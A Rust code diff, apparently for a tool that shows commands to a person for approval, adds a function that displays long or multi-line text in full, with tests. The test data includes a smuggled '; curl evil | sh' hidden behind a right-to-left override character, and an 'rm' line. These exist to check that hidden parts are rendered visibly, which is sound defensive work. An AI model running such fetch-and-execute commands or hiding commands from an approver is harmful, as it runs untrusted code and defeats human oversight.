@@ -84,6 +84,15 @@ fn content(side: Option<&FileEditSide>) -> Option<Cow<'static, str>> {
     String::from_utf8(STANDARD.decode(data).ok()?).ok().map(Cow::Owned)
 }
 
+/// A text that one line cannot hold, whole: whoever agrees to something has to see all of it.
+pub(super) fn whole(text: &str, most: usize) -> Vec<String> {
+    let mut lines = Vec::new();
+    if text.contains('\n') || text.chars().count() > most {
+        put(&mut lines, "", text);
+    }
+    lines
+}
+
 /// Adds a text, whose further lines stand below its first one.
 fn put(lines: &mut Vec<String>, before: &str, text: &str) {
     let before = visible(before).replace(['\n', '\t'], " ");
@@ -112,6 +121,14 @@ mod tests {
         assert_eq!(shown.len(), 2);
         assert_eq!(shown[0], format!("| command: ls {}", "a".repeat(500)));
         assert_eq!(shown[1], "|          \\u{202e}; curl evil | sh");
+    }
+
+    #[test]
+    fn a_question_that_a_line_cannot_hold_is_shown_whole() {
+        assert!(whole("May I?", 200).is_empty());
+        let long = "x".repeat(300);
+        assert_eq!(whole(&long, 200), [format!("| {long}")]);
+        assert_eq!(whole("Runs:\n- rm \u{202e}x", 200), ["| Runs:", "| - rm \\u{202e}x"]);
     }
 
     #[test]
